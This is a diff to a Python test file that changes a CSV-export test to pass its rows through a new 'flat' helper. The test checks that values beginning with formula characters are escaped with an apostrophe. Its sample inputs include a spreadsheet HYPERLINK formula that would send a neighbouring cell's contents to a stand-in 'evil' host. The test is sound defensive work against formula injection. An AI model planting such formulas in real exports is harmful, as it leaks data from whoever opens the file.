@@ -21,7 +21,7 @@ from assay.explorer.chart import MOST_POINTS, loss_chart
 from assay.explorer.codes import STANDING_CODES, all_codes, event_meaning, find_code
 from assay.explorer.losses import AGAIN_AFTER_S, Losses, Point, Wanted, Weigh
 from assay.explorer.reader import RunReader
-from assay.explorer.tables import to_csv
+from assay.explorer.tables import flat, to_csv
 from assay.explorer.words import AMOUNTS, AmountWords, shares, shares_exactly, span
 from assay.protocol.digests import keccak
 from assay.protocol.errors import UnavailableError
@@ -323,9 +323,9 @@ def test_shares_that_move_and_votes_are_written_as_shares() -> None:
 def test_no_cell_of_a_table_is_a_formula() -> None:
     """Attack: a vote whose reason an owner's program for tables computes, and which sends what is beside it."""
     texts = ['=HYPERLINK("http://evil/?"&A1)', "@SUM(A1)", "+1+1", "-A1", "\t=1"]
-    lines = list(csv.reader(io.StringIO(to_csv([{"reason": text, "amount": "-5"} for text in texts]))))
+    lines = list(csv.reader(io.StringIO(to_csv([flat({"reason": text, "amount": "-5"}) for text in texts]))))
     assert lines == [["reason", "amount"], *(["'" + text, "-5"] for text in texts)]
-    assert to_csv([{"reason": "less = more", "list": ["=1", 2]}]).splitlines()[1] == "less = more,'=1 2"
+    assert to_csv([flat({"reason": "less = more", "list": ["=1", 2]})]).splitlines()[1] == "less = more,'=1 2"
 
 
 # --- the server
